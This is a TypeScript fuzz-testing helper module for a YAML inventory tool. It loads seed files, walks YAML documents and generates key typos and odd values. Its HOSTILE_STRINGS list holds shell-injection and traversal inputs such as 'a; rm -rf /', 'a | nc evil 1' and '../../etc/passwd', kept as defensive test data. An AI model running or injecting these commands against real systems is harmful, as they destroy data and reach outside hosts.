import {readdirSync, readFileSync} from 'node:fs'
import {join} from 'node:path'
import {isMap, isScalar, isSeq, LineCounter, parseDocument, type Document, type Node as YamlNode} from 'yaml'

/** The inventories the fuzz mutates: every example and the lab's. */
export function seedInventories(): {file: string; text: string}[] {
  const root = join(import.meta.dirname, '../../../inventories')
  const files = [...readdirSync(join(root, 'examples')).filter((f) => f.endsWith('.yml')).map((f) => join(root, 'examples', f)), join(root, 'lab.yml')]
  return files.map((file) => ({file, text: readFileSync(file, 'utf8')}))
}

/** mulberry32: a small seeded PRNG, so a failing case reproduces from its seed. */
export function prng(seed: number): () => number {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

export type Path = (string | number)[]

interface Places {
  maps: Path[]
  seqs: Path[]
  scalars: {path: Path; value: unknown}[]
}

/** Every map, sequence and scalar of a document, by path. */
export function places(doc: Document): Places {
  const found: Places = {maps: [], seqs: [], scalars: []}
  const walk = (node: unknown, path: Path) => {
    if (isMap(node)) {
      found.maps.push(path)
      for (const pair of node.items) if (isScalar(pair.key)) walk(pair.value, [...path, String(pair.key.value)])
    } else if (isSeq(node)) {
      found.seqs.push(path)
      node.items.forEach((item, i) => walk(item, [...path, i]))
    } else if (isScalar(node)) {
      found.scalars.push({path, value: node.value})
    }
  }
  walk(doc.contents, [])
  return found
}

/** Strings that have hurt tools like this one: shell syntax, separators, traversal, control characters. */
export const HOSTILE_STRINGS = [
  '$(touch /tmp/ctl-fuzz-pwned)',
  '`id`',
  'a; rm -rf /',
  'a && reboot',
  'a | nc evil 1',
  "it's \"quoted\"",
  '..',
  '../../etc/passwd',
  'a/../../b',
  '/var/lib/../../tmp',
  'line1\nline2',
  'name\n- injected: true',
  'tab\there',
  'nul\u0000byte',
  'esc\u001b[31m',
  'back\\slash',
  ' leading space',
  '-rf',
  '.hidden',
  '',
  'x'.repeat(5000),
  'ünïcødé',
]

export const ODD_VALUES: unknown[] = [null, true, false, 0, -1, 1.5, 1e308, 2 ** 64, -(2 ** 63), Number.POSITIVE_INFINITY, Number.NaN, [], [1, 2], {}, {a: 1}, 'string', '65536', ...HOSTILE_STRINGS]

/** Near-miss typos of a key: case changes, a dropped, doubled or swapped letter. */
export function typosOf(key: string, random: () => number): string[] {
  const i = Math.floor(random() * key.length)
  const typos = [
    key.toLowerCase(),
    key.toUpperCase(),
    key.slice(0, i) + key.slice(i + 1),
    key.slice(0, i) + key[i] + key.slice(i),
    i + 1 < key.length ? key.slice(0, i) + key[i + 1] + key[i] + key.slice(i + 2) : `${key}s`,
    `${key}_`,
  ]
  return typos.filter((t) => t !== key && t !== '')
}

/** Where the key node `key` of the map at `mapPath` is written in `text` (1-based line, column). */
export function keyPosition(text: string, mapPath: Path, key: string): {line: number; column: number} | undefined {
  const lineCounter = new LineCounter()
  const doc = parseDocument(text, {lineCounter})
  const map = mapPath.length === 0 ? doc.contents : doc.getIn(mapPath, true)
  if (!isMap(map)) return undefined
  const pair = map.items.find((p) => isScalar(p.key) && String(p.key.value) === key)
  const node = pair?.key as YamlNode | undefined
  if (!node?.range) return undefined
  const pos = lineCounter.linePos(node.range[0])
  return {line: pos.line, column: pos.col}
}

/** Every string in a loaded value with its dotted path. */
export function stringsIn(value: unknown, path = ''): {path: string; value: string}[] {
  if (typeof value === 'string') return [{path, value}]
  if (Array.isArray(value)) return value.flatMap((v, i) => stringsIn(v, `${path}[${i}]`))
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => stringsIn(v, path ? `${path}.${k}` : k))
  return []
}
